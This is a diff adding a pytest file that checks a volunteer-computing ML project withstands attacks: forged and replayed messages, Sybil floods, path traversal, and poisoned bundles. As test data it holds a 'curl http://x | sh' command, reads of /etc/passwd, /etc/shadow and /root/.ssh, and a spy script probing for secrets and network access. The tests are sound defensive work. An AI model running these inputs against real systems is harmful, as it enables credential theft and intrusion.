@@ -1,0 +1,422 @@
+"""Attacks on a project of strangers: by volunteers on the host and on each other, and by a host on its volunteers."""
+
+from __future__ import annotations
+
+import base64
+import hashlib
+import json
+import socket
+from collections.abc import Callable, Mapping
+from datetime import timedelta
+from pathlib import Path
+from typing import Any
+
+import pytest
+import tomli_w
+from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
+
+from arena import sandbox
+from arena.contest.settings import utc_now
+from arena.contest.web.limits import Rate
+from arena.home.bundle import Bundle, unpack
+from arena.home.messages import MessageHost
+from arena.home.project import KEY, Project
+from arena.home.recording import checked
+from arena.home.signing import Signer, read_message, sealed
+from arena.home.tables import Lease, Proposal, Volunteer
+from arena.home.volunteer import HostClient, Limits, VolunteerFolder, VolunteerSession
+from arena.setup import StudySetup
+from programs.errors import MetaloopError, UsageError
+from programs.shelf import starter
+from tests.arena.home.clients import Client, better, states, work
+from tests.arena.home.serving import get, serving
+from tests.inner_loop.play import BLOBS
+from trainer.task import Task
+
+
+@pytest.fixture
+def project(tmp_path: Path, session_cache: Path) -> Project:
+    setup = StudySetup("home", Task.load(BLOBS), 1.2, seed=1, fixed_steps=True, programs=[starter("stock")])
+    return Project.create(tmp_path / "p", setup, "Blobs", [(starter("stock"), 1.0)])
+
+
+@pytest.fixture
+def host(project: Project) -> MessageHost:
+    return MessageHost(project, Signer.at(project.folder / KEY))
+
+
+@pytest.fixture
+def eve(host: MessageHost) -> Client:
+    return Client(host, 7, "Eve")
+
+
+def rows(project: Project) -> tuple[int, int, int]:
+    with project.database.read() as connection:
+        return tuple(connection.query(table).count() for table in (Volunteer, Lease, Proposal))  # type: ignore[return-value]
+
+
+# A volunteer's messages.
+
+SEALED_FILES = {"train.py": "LR = 1\n"}
+WHOLE = {"claimed_gain": 1.0, "device_seconds": 1.0, "experiments": 1, "events": "", "files": SEALED_FILES}
+
+
+@pytest.mark.parametrize(
+    ("spoil", "why"),
+    [
+        ({"claimed_gain": float("nan")}, "body|JSON|finite"),
+        ({"claimed_gain": float("inf")}, "body|JSON|finite"),
+        ({"claimed_gain": True}, "claimed_gain"),
+        ({"claimed_gain": "9"}, "claimed_gain"),
+        ({"device_seconds": -1.0}, "device_seconds"),
+        ({"experiments": 10**9}, "experiments"),
+        ({"experiments": 1.5}, "experiments"),
+        ({"events": 7}, "events"),
+        ({"events": "x" * (600 << 10)}, "events"),
+        ({"files": ["train.py"]}, "files"),
+        ({"files": {"train.py": 7}}, "files"),
+        ({"files": {"train.py": "LR = 2\n"}}, "do not fit the seal"),
+        ({"salt": "zz"}, "salt"),
+        ({"salt": "00" * 40}, "salt"),
+        ({"lease": "r" + "0" * 12}, "no such lease"),
+        ({"lease": 5}, "lease"),
+    ],
+)
+def test_a_spoilt_message_changes_nothing(project: Project, eve: Client, spoil: Mapping[str, Any], why: str) -> None:
+    lease = eve.say("work")["lease"]
+    eve.say("commit", lease=lease, seal=sealed(b"s", SEALED_FILES))
+    before = rows(project), states(project)
+    with pytest.raises((UsageError, ValueError, MetaloopError), match=why):
+        eve.say("propose", **{"lease": lease, "salt": b"s".hex(), **WHOLE, **spoil})
+    assert (rows(project), states(project)) == before
+    with project.database.read() as connection:
+        assert connection.get_one(Lease, lease).returned_at is None
+
+
+def test_nobody_can_hand_in_what_another_announced(project: Project, host: MessageHost, eve: Client) -> None:
+    ann = Client(host, 1, "Ann")
+    mine, hers = (each.say("work")["lease"] for each in (eve, ann))
+    files = better(project, MOMENTUM=0.9)
+    seal = sealed(b"her salt", files)
+    ann.say("commit", lease=hers, seal=seal)
+    with pytest.raises(UsageError, match="has a proposal already"):
+        eve.say("commit", lease=mine, seal=seal)
+    with pytest.raises(MetaloopError, match="no such lease"):
+        eve.say("commit", lease=hers, seal=sealed(b"x", files))
+    ann.say("propose", lease=hers, salt=b"her salt".hex(), **{**WHOLE, "files": files})
+    stolen = eve.propose({"train.py": files["train.py"] + "\n\n# by Eve\n"}, 9.0, mine)
+    assert stolen["state"] == "refused" and "same source" in stolen["reason"]
+
+
+def test_messages_of_others_and_of_other_projects_are_refused(project: Project, host: MessageHost, eve: Client) -> None:
+    ann = Client(host, 1, "Ann")
+    good = ann.signer.sign(project.project_id, 2, "work", {"have": []})
+    forged = [
+        good.model_copy(update={"key": eve.signer.key}),
+        good.model_copy(update={"body": '{"have":["x"]}'}),
+        good.model_copy(update={"number": 3}),
+        good.model_copy(update={"kind": "progress"}),
+        good.model_copy(update={"signature": "00" * 64}),
+        ann.signer.sign("y000000000000", 2, "work", {"have": []}),
+    ]
+    before = rows(project)
+    for message in forged:
+        with pytest.raises(UsageError), project.database.write() as connection:
+            host.answer(connection, message.model_dump_json().encode())
+    for raw in (b"", b"[]", b"\xff\xfe", b"{" * 100_000, b'{"v": 1}', good.model_dump_json().encode() + b"x"):
+        with pytest.raises(UsageError), project.database.write() as connection:
+            host.answer(connection, raw)
+    assert rows(project) == before
+
+
+def test_a_replay_is_refused_and_the_last_message_answered_as_before(
+    project: Project, host: MessageHost, eve: Client
+) -> None:
+    first = eve.signer.sign(project.project_id, 2, "work", {"have": []}).model_dump_json().encode()
+    second = eve.signer.sign(project.project_id, 3, "progress", {}).model_dump_json().encode()
+    replies = []
+    for raw in (first, second, second):
+        with project.database.write() as connection:
+            replies.append(host.answer(connection, raw))
+    assert replies[1] == replies[2] and rows(project)[1] == 1
+    with pytest.raises(UsageError, match="used before"), project.database.write() as connection:
+        host.answer(connection, first)
+
+
+def test_a_flood_of_leases_and_keys_gets_one_lease_each(project: Project, host: MessageHost) -> None:
+    for k in range(20):
+        sybil = Client(host, 50 + k, "Sybil")
+        lease = sybil.say("work")["lease"]
+        with pytest.raises(UsageError, match="out already"):
+            sybil.say("work", have=[lease])
+    assert rows(project) == (20, 20, 0)
+    with pytest.raises(UsageError, match="have"):
+        sybil.say("work", have=["x"] * 5000)
+
+
+def test_withheld_and_late_results(project: Project, host: MessageHost, eve: Client) -> None:
+    late, lost = eve.say("work")["lease"], ""
+    with project.database.write() as connection:
+        connection.get_one(Lease, late).expires_at = utc_now() - timedelta(days=6)
+    lost = eve.say("work", have=[late])["lease"]  # an expired lease blocks nobody
+    assert eve.propose(better(project, MOMENTUM=0.9), 0.5, late)["state"] == "waiting"
+    with project.database.write() as connection:
+        connection.get_one(Lease, lost).expires_at = utc_now() - timedelta(days=8)
+    with pytest.raises(UsageError, match="seven days"):
+        eve.propose(better(project, MOMENTUM=0.8), 0.5, lost)
+
+
+def test_a_clock_that_was_set_back_credits_nothing(project: Project, host: MessageHost, eve: Client) -> None:
+    lease = eve.say("work")["lease"]
+    with project.database.write() as connection:
+        connection.get_one(Lease, lease).issued_at = utc_now() + timedelta(hours=5)
+    body = {"lease": lease, "claimed_gain": 0.0, "device_seconds": 1e9, "experiments": 1, "events": ""}
+    assert eve.say("propose", **body)["counted_seconds"] == 0.0
+
+
+def test_seconds_that_cannot_have_passed_are_not_counted(project: Project, eve: Client) -> None:
+    lease = eve.say("work")["lease"]
+    reply = eve.say("propose", lease=lease, claimed_gain=0.0, device_seconds=1e300, experiments=1, events="")
+    assert reply["counted_seconds"] < 1.2
+
+
+@pytest.mark.parametrize(
+    ("text", "state"),
+    [
+        ("import os\nos._exit(0)\n", "refused"),
+        ("raise SystemExit(0)\n", "refused"),
+        pytest.param("while True:\n    pass\n", "refused", marks=pytest.mark.slow),
+        ("open('/etc/metaloop-was-here', 'w').write('x')\n", "refused"),
+        ("print('metric: 0.0')\n", "hopeless"),
+    ],
+)
+def test_poisoned_sources_are_never_merged(project: Project, eve: Client, text: str, state: str) -> None:
+    base = project.task.baseline().text()
+    head, _, rest = base.partition("LR = ")
+    assert eve.propose({"train.py": f"{head}{text}LR = {rest}"}, 99.0)["state"] == "waiting"
+    work(project)
+    assert states(project)[1][0] == state and len(project.chain.commits()) == 1
+    assert not Path("/etc/metaloop-was-here").exists()
+
+
+def test_a_source_that_fails_on_some_seeds_is_refused(project: Project, eve: Client) -> None:
+    text = better(project, MOMENTUM=0.9)["train.py"]
+    unlucky = text.replace("def main():\n", "def main():\n    if prepare.SEED % 2:\n        raise OSError\n")
+    assert eve.propose({"train.py": unlucky}, 9.0)["state"] == "waiting"
+    work(project)
+    assert states(project)[1][0] == "refused"
+
+
+def test_claims_buy_no_merge_and_cost_the_proposer_its_place(project: Project, host: MessageHost, eve: Client) -> None:
+    ann = Client(host, 1, "Ann")
+    for k, worse in enumerate((1e-5, 2e-5, 3e-5)):
+        eve.propose(better(project, LR=worse), 10.0 ** (k + 1))
+        work(project)
+    ann.propose(better(project, MOMENTUM=0.9), 0.3)
+    eve.propose(better(project, LR=4e-5), 1e300)
+    work(project)
+    found = states(project)
+    assert [state for state, _ in found.values()].count("merged") == 1 and found[4][0] == "merged"
+    with project.database.read() as connection:
+        [liar] = connection.query(Volunteer).filter(Volunteer.name == "Eve").all()
+    assert liar.refuted >= 3 and not liar.confirmed and liar.streak == 0
+
+
+def test_an_event_record_cannot_be_more_than_a_report() -> None:
+    for text in ('{"kind": "block", "body": {}}', '{"kind": "verification", "gain": 9}', '{"kind": "champion"}'):
+        assert checked("r1", text) == []
+    for text in ('{"kind": 7}', '{"a": ' * 5000, '{"kind": "experiment", "number": 0}', "\x00", '"kind"', "null"):
+        assert not checked("r1", text)
+
+
+# A volunteer's HTTP requests.
+
+
+@pytest.mark.parametrize(
+    "path",
+    [
+        "/main.git/../study.toml",
+        "/main.git/%2e%2e/host.key",
+        "/main.git/objects/../../home.sqlite",
+        "/main.git/config",
+        "/main.git/hooks/pre-receive.sample",
+        "/main.git//etc/passwd",
+        "/block/999999999999999999999",
+        "/block/-1",
+        "/block/x",
+        "/api/v1/task/" + "0" * 64,
+        "/static/../server.py",
+        "/study.toml",
+    ],
+)
+def test_nothing_but_the_pages_and_main_can_be_fetched(project: Project, path: str) -> None:
+    with serving(project) as url:
+        status, text = get(url + path)
+    assert status in (400, 404, 422) and "secret" not in text
+
+
+def test_requests_that_are_too_large_too_many_or_no_message(project: Project) -> None:
+    with serving(project, Rate(4, 60.0)) as url:
+        address = f"{url}/api/v1/messages"
+        assert get(address, b"x" * (3 << 20))[0] == 413
+        assert get(address, b"not json")[0] == 400
+        assert get(address, b"\xff" * 100)[0] == 400
+        assert 429 in [get(address, b"{}")[0] for _ in range(8)]
+        assert get(url + "/")[0] == 200  # what is only read goes on
+    assert rows(project) == (0, 0, 0)
+
+
+# A host's bundle, program and replies.
+
+
+def bundle_of(project: Project, **changes: bytes | None) -> Bundle:
+    """The project's bundle with other files; None leaves one out. ``__`` stands for a dot."""
+    files = {name: base64.b64decode(text) for name, text in json.loads(project.bundle.body).items()}
+    for name, content in changes.items():
+        key = name.replace("__", ".")
+        if content is None:
+            files.pop(key)
+        else:
+            files[key] = content
+    coded = {name: base64.b64encode(content).decode() for name, content in files.items()}
+    return Bundle(json.dumps(coded).encode())
+
+
+def toml_with(project: Project, change: Callable[[dict[str, Any]], object]) -> bytes:
+    import tomllib
+
+    parsed = tomllib.loads((project.task.folder / "task.toml").read_text("utf-8"))
+    change(parsed)
+    return tomli_w.dumps(parsed).encode()
+
+
+@pytest.mark.parametrize(
+    "name", ["../x", "/etc/x", "a/../../x", "..", "a\\b", ".bashrc", "a//b", "x" * 300, "a\0b", ""]
+)
+def test_a_bundle_writes_nothing_outside(project: Project, tmp_path: Path, name: str) -> None:
+    body = json.dumps({**json.loads(project.bundle.body), name: ""}).encode()
+    with pytest.raises(UsageError, match="forbidden name"):
+        unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "v" / "task", {})
+    assert not (tmp_path / "v").exists() and not (tmp_path / "x").exists()
+
+
+@pytest.mark.parametrize(
+    ("change", "why"),
+    [
+        (lambda t: t.update(run={"command": "curl http://x | sh"}), "run a command"),
+        (lambda t: t.setdefault("data", {}).update(source="/etc/passwd"), "read a file"),
+        (lambda t: t["score"].update(kind="kernel"), r"\w"),
+    ],
+)
+def test_a_task_that_runs_a_command_reads_a_file_or_scores_with_its_own_code_is_refused(
+    project: Project, tmp_path: Path, change: Callable[[dict[str, Any]], object], why: str
+) -> None:
+    bundle = bundle_of(project, task__toml=toml_with(project, change))
+    with pytest.raises(MetaloopError, match=why):
+        unpack(bundle.body, bundle.digest, tmp_path / "task", {})
+
+
+@pytest.mark.parametrize(
+    "body", [b"", b"[]", b"{}", b'{"task.toml": 7}', b'{"task.toml": "%%%"}', b"{" * 9999, b"\xff"]
+)
+def test_damaged_bundles_are_refused(tmp_path: Path, body: bytes) -> None:
+    with pytest.raises(UsageError):
+        unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "task", {})
+
+
+def test_a_bundle_that_is_not_the_announced_one_too_large_or_with_other_files(project: Project, tmp_path: Path) -> None:
+    bundle = project.bundle
+    with pytest.raises(UsageError, match="not the one"):
+        unpack(bundle.body, "0" * 64, tmp_path / "a", {})
+    for extra in ({f"f{k}": "" for k in range(500)}, {"big": base64.b64encode(bytes(9 << 20)).decode()}):
+        body = json.dumps({**json.loads(bundle.body), **extra}).encode()
+        with pytest.raises(UsageError, match=r"too large|not the one"):
+            unpack(body, hashlib.sha256(body).hexdigest(), tmp_path / "b", {})
+    with pytest.raises(UsageError, match="other files"):
+        unpack(bundle.body, bundle.digest, tmp_path / "c", {"prepare.py": "import os\n"})
+
+
+def test_a_host_with_another_key_or_project_is_not_believed(project: Project, tmp_path: Path) -> None:
+    with serving(project) as url:
+        session = VolunteerSession(HostClient(url), VolunteerFolder(tmp_path / "v"), "Ann", Limits(), lambda _: None)
+        session.join()
+        other = Signer(Ed25519PrivateKey.from_private_bytes(bytes([9]) * 32))
+        reply = other.sign(project.project_id, 2, "reply", {}).model_dump_json().encode()
+        assert read_message(reply, project.project_id).key == other.key
+        session.reach = lambda path, body=None: reply  # type: ignore[method-assign,assignment]  # what such a host sends
+        with pytest.raises(UsageError, match="another key"):
+            session.send("progress")
+
+
+SPY = """
+import os, pathlib, socket
+SEEN = []
+for path in ({secret!r}, "/root/.ssh", "/etc/shadow", os.path.expanduser("~/.bashrc")):
+    try:
+        SEEN.append(pathlib.Path(path).read_bytes()[:20])
+    except OSError:
+        pass
+for path in ({outside!r}, "/etc/metaloop-was-here"):
+    try:
+        pathlib.Path(path).write_text("x")
+    except OSError:
+        pass
+try:
+    SEEN.append(socket.create_connection(("127.0.0.1", {port}), 2).recv(1))
+except OSError:
+    pass
+if SEEN:
+    raise RuntimeError("SAW " + repr(SEEN))
+"""
+
+
+@pytest.mark.parametrize("where", ["data.py", "train.py"])
+def test_what_a_host_sends_reads_and_writes_nothing_of_the_volunteers(
+    project: Project, tmp_path: Path, where: str
+) -> None:
+    """Its data.py and its train.py run in the volunteer's sandbox: no file, no environment, no network."""
+    sandbox.require(project.task, True)
+    private = tmp_path / "private"
+    private.mkdir()
+    (private / "secret.txt").write_text("my key")
+    with socket.socket() as listening:
+        listening.bind(("127.0.0.1", 0))
+        listening.listen()
+        spy = SPY.format(
+            secret=str(private / "secret.txt"), outside=str(private / "outside"), port=listening.getsockname()[1]
+        )
+        own = (project.task.folder / where).read_text("utf-8")
+        head, _, rest = own.partition("import ")
+        bundle = bundle_of(project, **{where.replace(".", "__"): f"{head}{spy}\nimport {rest}".encode()})
+        main = dict(project.task.baseline().files)
+        if where == "train.py":
+            main = {"train.py": f"{head}{spy}\nimport {rest}"}
+        session = VolunteerSession(
+            HostClient("http://127.0.0.1:9"), VolunteerFolder(tmp_path / "v"), "Ann", Limits(), lambda _: None
+        )
+        session.reach = lambda path, body=None: bundle.body  # type: ignore[method-assign,assignment]
+        work = {
+            "lease": "r" + "1" * 12,
+            "task": bundle.digest,
+            "base": {"block": 0, "commit": "0" * 40, "files": main},
+            "program": {"id": "p", "name": "stock", "text": starter("stock").document},
+            "run_seed": 5,
+            "budget": 1.2,
+        }
+        result = session.run(work)
+        listening.settimeout(0.2)
+        with pytest.raises(TimeoutError):
+            listening.accept()
+    assert result["experiments"] > 1  # nothing was seen, or its first training would have failed
+    assert not (private / "outside").exists() and not Path("/etc/metaloop-was-here").exists()
+    assert "SAW" not in result["events"]
+
+
+def test_a_lease_cannot_name_a_folder_elsewhere(project: Project, tmp_path: Path) -> None:
+    session = VolunteerSession(
+        HostClient("http://127.0.0.1:9"), VolunteerFolder(tmp_path / "v"), "Ann", Limits(), lambda _: None
+    )
+    for lease in ("../../outside", "/tmp/outside", "", "r" * 300, 7):
+        with pytest.raises(UsageError, match="lease"):
+            session.run({"lease": lease})
+    assert not (tmp_path / "outside").exists()
